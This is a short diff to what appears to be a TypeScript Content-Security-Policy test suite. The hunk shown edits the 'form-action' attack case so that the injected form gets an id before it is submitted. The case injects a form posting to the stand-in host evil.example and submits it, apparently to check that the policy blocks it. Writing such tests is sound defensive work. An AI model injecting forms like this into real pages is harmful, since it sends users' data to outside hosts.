@@ -97,8 +97,8 @@ const ATTACKS: [what: string, directive: string, attack: () => unknown][] = [
     'a form sent elsewhere',
     'form-action',
     () => {
-      document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/"></form>');
-      document.querySelector<HTMLFormElement>('form[action]')?.submit();
+      document.body.insertAdjacentHTML('beforeend', '<form id="evil" action="https://evil.example/"></form>');
+      document.querySelector<HTMLFormElement>('#evil')?.submit();
     },
   ],
   [
